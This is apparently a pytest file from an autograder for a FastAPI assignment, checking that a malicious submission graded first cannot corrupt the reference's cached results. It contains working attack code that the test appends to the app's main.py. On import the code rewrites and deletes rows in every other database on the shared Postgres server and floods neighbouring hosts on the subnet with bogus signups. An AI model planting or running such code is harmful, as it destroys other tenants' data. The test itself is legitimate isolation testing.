"""The reference's answers are recorded alone: a submission graded first, with a cold cache,
attacks everything it can reach during its grade, and the reference graded next still gets 100."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from docker import DockerClient

pytestmark = pytest.mark.docker

ROOT = Path(__file__).resolve().parents[1]
ASSIGNMENT = "fastapi-db-auth"

# Appended to the reference's app/main.py: for a minute from its start, a thread rewrites every
# database it can open on its Postgres server and sends junk to every port-8000 app on its network.
ATTACK = r"""

def _attack() -> None:
    import asyncio, ipaddress, socket, time, urllib.request
    from concurrent.futures import ThreadPoolExecutor
    from urllib.parse import urlsplit

    import asyncpg

    url = urlsplit(get_settings().DATABASE_URL.replace("+asyncpg", ""))
    me = socket.gethostbyname(socket.gethostname())
    hits: set[str] = set()

    async def databases() -> None:
        try:
            conn = await asyncpg.connect(user=url.username, password=url.password, host=url.hostname,
                                         database=url.path.lstrip("/"), timeout=2)
            names = [r[0] for r in await conn.fetch("SELECT datname FROM pg_database")]
            await conn.close()
        except Exception:
            return
        for name in names:
            if name == url.path.lstrip("/") or name.startswith("template"):
                continue
            try:
                other = await asyncpg.connect(user=url.username, password=url.password,
                                              host=url.hostname, database=name, timeout=2)
                await other.execute("UPDATE users SET email = 'poisoned@example.com'")
                await other.execute("DELETE FROM items")
                await other.close()
                hits.add(f"database {name}")
            except Exception:
                pass

    def neighbour(host: str) -> None:
        body = b'{"email": "intruder@example.com", "password": "intruder-pass-1"}'
        request = urllib.request.Request(f"http://{host}:8000/users/", data=body,
                                         headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(request, timeout=0.2)
            hits.add(f"app {host}")
        except Exception:
            pass

    def neighbours() -> None:
        hosts = [str(h) for h in ipaddress.ip_network(me + "/24", strict=False).hosts() if str(h) != me]
        with ThreadPoolExecutor(32) as pool:  # the container's pids limit is 256
            list(pool.map(neighbour, hosts))

    end = time.monotonic() + 60
    while time.monotonic() < end:
        asyncio.run(databases())
        neighbours()
        print("ATTACK reached:", sorted(hits) or "nothing", flush=True)
        time.sleep(0.5)


import threading as _threading

from app.config import get_settings

_threading.Thread(target=_attack, daemon=True).start()
"""


def _attacker(dest: Path) -> Path:
    shutil.copytree(
        ROOT / "reference_solution" / ASSIGNMENT,
        dest,
        ignore=shutil.ignore_patterns("tests", "__pycache__", ".grader.yaml"),
    )
    main = dest / "app" / "main.py"
    main.write_text(main.read_text() + ATTACK)
    dockerfile = dest / "Dockerfile"  # its log tail shows the attack, not the access log
    dockerfile.write_text(
        dockerfile.read_text().replace("--port 8000", "--port 8000 --no-access-log")
    )
    return dest


def _grade(submission: Path, out: Path, cache: Path) -> dict[str, object]:
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "grader.cli",
            "grade",
            str(submission),
            "--assignment",
            ASSIGNMENT,
            "--out",
            str(out),
            "--seed",
            "0",
        ],
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
        env={**os.environ, "API_GRADER_CACHE": str(cache)},
    )
    assert done.returncode == 0, done.stderr[-3000:]
    data: dict[str, object] = json.loads((out / "full.json").read_text())
    return data


def test_an_attack_during_a_cold_grade_cannot_poison_the_reference(
    tmp_path: Path, docker_client: DockerClient
) -> None:
    cache = tmp_path / "cache"  # cold: the reference is recorded during the attacker's grade
    attacked = _grade(_attacker(tmp_path / "attacker"), tmp_path / "out-attacker", cache)
    assert attacked["status"] == "graded", attacked["reason"]
    assert "ATTACK reached" in str(attacked["app_log"]), "the attack ran"
    assert list((cache / "reference").glob("*.json")), "the reference's traces were recorded"
    reference = _grade(ROOT / "reference_solution" / ASSIGNMENT, tmp_path / "out-reference", cache)
    failed = [i["id"] for i in reference["items"] if not i["passed"]]  # type: ignore[attr-defined]
    assert reference["score"] == 100, failed
